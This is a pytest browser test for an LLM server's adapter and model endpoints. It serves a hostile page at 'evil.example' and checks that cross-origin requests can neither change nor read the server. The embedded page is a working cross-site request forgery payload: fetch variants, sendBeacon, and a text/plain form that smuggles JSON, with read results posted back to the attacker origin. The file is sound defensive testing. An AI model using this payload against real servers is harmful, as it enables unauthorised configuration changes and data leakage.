"""A page of another origin in a real browser, which tries to change the server and to read it."""

import json
import queue
import shutil
import subprocess
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from live_server import serve

from .raw import get

CHROMIUM = next(
    filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None
)

#: Tries each way that a page has, and tells its own server what it could read.
PAGE = """<!doctype html><title>evil</title><body><script>
const server = "%s", load = "/v1/load_lora_adapter", unload = "/v1/unload_lora_adapter";
const bodies = [[load, {lora_name: "b", lora_path: "b"}], [unload, {lora_name: "a"}]];
const seen = [];
async function attempt(what, path, options) {
  try {
    const answer = await fetch(server + path, options);
    seen.push([what, path, answer.type, answer.status, await answer.text()]);
  } catch (error) { seen.push([what, path, "error", 0, String(error)]); }
}
function form(path, body) {
  const frame = document.createElement("iframe"), form = document.createElement("form");
  frame.name = "f" + Math.random();
  document.body.append(frame, form);
  Object.assign(form, {method: "post", action: server + path, target: frame.name});
  form.enctype = "text/plain";
  const field = document.createElement("input");
  field.name = JSON.stringify(body).slice(0, -1) + ', "x": "';
  field.value = '"}';
  form.append(field);
  return new Promise(done => { frame.onload = done; form.submit(); });
}
(async () => {
  for (const [path, value] of bodies) {
    const body = JSON.stringify(value), method = "POST";
    await attempt("simple", path, {method, body});
    await attempt("no-cors", path, {method, body, mode: "no-cors"});
    for (const type of ["text/plain", "application/x-www-form-urlencoded", "application/json"]) {
      const headers = {"Content-Type": type};
      await attempt("cors " + type, path, {method, body, headers});
      await attempt("no-cors " + type, path, {method, body, headers, mode: "no-cors"});
    }
    const json = new Blob([body], {type: "application/json"});
    await attempt("blob", path, {method, body: json, mode: "no-cors"});
    try { navigator.sendBeacon(server + path, body); } catch (error) {}
    try { navigator.sendBeacon(server + path, json); } catch (error) {}
    await form(path, value);
  }
  await attempt("list", "/v1/models", {});
  await attempt("list no-cors", "/v1/models", {mode: "no-cors"});
  await attempt("metrics", "/metrics", {});
  await fetch("/done", {method: "POST", body: JSON.stringify(seen)});
})();
</script>"""


class Site:
    """A page at an origin of its own, and what it reports.

    Attributes:
        url: Where it is.
        reports: What the page saw.
    """

    def __init__(self, page: str):
        self.reports: queue.Queue[list] = queue.Queue()
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                self.answer(page.encode())

            def do_POST(self):
                length = int(self.headers["Content-Length"])
                site.reports.put(json.loads(self.rfile.read(length)))
                self.answer(b"")

            def answer(self, content: bytes):
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(content)))
                self.end_headers()
                self.wfile.write(content)

            def log_message(self, format, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        # A name that only the browser knows: pages of this host may read more.
        self.url = f"http://evil.example:{self.server.server_port}"

    def __enter__(self):
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *error):
        self.server.shutdown()
        self.server.server_close()


@pytest.mark.browser
@pytest.mark.newest
@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium is installed")
@pytest.mark.parametrize(
    "more",
    [(), ("--allowed-origins", "https://good.example"), ("--optiq-api-key", "key")],
    ids=["open", "origins", "keyed"],
)
def test_a_page_of_another_origin_can_change_and_read_nothing(tiny, folder, tmp_path, more):
    assert CHROMIUM is not None
    words = (f"--optiq-adapter=a={folder / 'a'}", "--optiq-adapter-dir", folder)
    words = (*words, "--optiq-allow-adapter-updates", "--optiq-metrics")
    bearer = {"Authorization": "Bearer key"}
    with serve(tmp_path / "log", "--model", tiny, *words, *more) as server:
        before = get(server, "/v1/models", bearer)
        with Site(PAGE % server.url) as site:
            options = ("--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run")
            resolver = "--host-resolver-rules=MAP evil.example 127.0.0.1"
            profile = f"--user-data-dir={tmp_path / 'profile'}"
            with (tmp_path / "browser").open("w") as log:
                browser = subprocess.Popen(
                    [CHROMIUM, *options, resolver, profile, site.url], stdout=log, stderr=log
                )
            try:
                seen = site.reports.get(timeout=60)
            finally:
                browser.kill()
                browser.wait(10)
        after = get(server, "/v1/models", bearer)
        text = server.log.read_text()
    names = [each["id"] for each in after[1]["data"]]
    assert names == [each["id"] for each in before[1]["data"]] == ["tiny-qwen3", "a"]
    assert len(seen) == 2 * 9 + 3
    # No attempt was read as a success, and nothing of an answer could be read without leave.
    assert not [each for each in seen if each[3] == 200]
    assert not [each for each in seen if "tiny-qwen3" in each[4]]
    changes = [json.loads(x.partition("audit: ")[2]) for x in text.splitlines() if "audit: " in x]
    # They did arrive, and were refused.
    assert len(changes) >= 8
    assert {each["status"] for each in changes} <= {401, 403, 415}
